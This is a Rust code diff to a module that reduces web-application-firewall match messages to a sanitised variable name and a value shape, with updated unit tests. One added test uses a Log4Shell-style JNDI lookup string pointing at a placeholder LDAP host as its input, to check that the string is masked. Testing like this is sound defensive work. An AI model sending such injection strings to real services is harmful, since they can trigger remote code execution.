@@ -1,7 +1,7 @@
 //! What is kept of a match: the variable, and the shape of the value. The value stays here.
 
 /// Characters kept of the name of a variable, and of a shape.
-const NAME_LIMIT: usize = 80;
+const NAME_LIMIT: usize = 60;
 const SHAPE_LIMIT: usize = 48;
 
 /// Variable and shape of the library's sentence: ``Matched "Operator `Rx' with parameter `…' against variable `ARGS:q'
@@ -14,18 +14,18 @@ pub(crate) fn variable_and_shape(matched: &str) -> (String, String) {
     (variable(name), shape(value))
 }
 
-/// The name of a variable. The part after the colon is the client's: signs other than those of names become `…`.
+/// The name of a variable: the collection, and after the colon the client's word, where it looks like a name.
 fn variable(name: &str) -> String {
-    let plain = |sign: char| sign.is_ascii_alphanumeric() || "_-.:[]/*@".contains(sign);
-    let mut kept = String::new();
-    for sign in name.chars().take(NAME_LIMIT) {
-        match (plain(sign), kept.ends_with('…')) {
-            (true, _) => kept.push(sign),
-            (false, false) => kept.push('…'),
-            (false, true) => {}
-        }
+    let (collection, word) =
+        name.split_once(':').map_or((name, None), |(collection, word)| (collection, Some(word)));
+    let sign = |it: char| it.is_ascii_alphanumeric() || "_-.[]".contains(it);
+    let plain = |it: &str| it.len() <= NAME_LIMIT && it.chars().all(sign);
+    let collection = if plain(collection) { collection } else { "…" };
+    match word {
+        None => collection.to_owned(),
+        Some(word) if plain(word) || word == "/*" || word == "//@*" => format!("{collection}:{word}"),
+        Some(_) => format!("{collection}:…"),
     }
-    kept
 }
 
 /// Letters as `a`, digits as `0`, white space as one blank, other ASCII signs as they are, repetition dropped.
@@ -74,9 +74,11 @@ mod tests {
             ),
             (
                 "Matched \"Operator `Rx' with parameter `x' against variable `ARGS:Miller, Jan' (Value: `it's' )",
-                "ARGS:Miller…Jan",
+                "ARGS:…",
                 "a'a",
             ),
+            ("against variable `ARGS_NAMES:${jndi:ldap://host77/a}' (Value: `x' )", "ARGS_NAMES:…", "a"),
+            ("against variable `XML:/*' (Value: `x' )", "XML:/*", "a"),
             ("", "", ""),
         ] {
             assert_eq!(variable_and_shape(matched), (variable.to_owned(), shape.to_owned()), "{matched}");
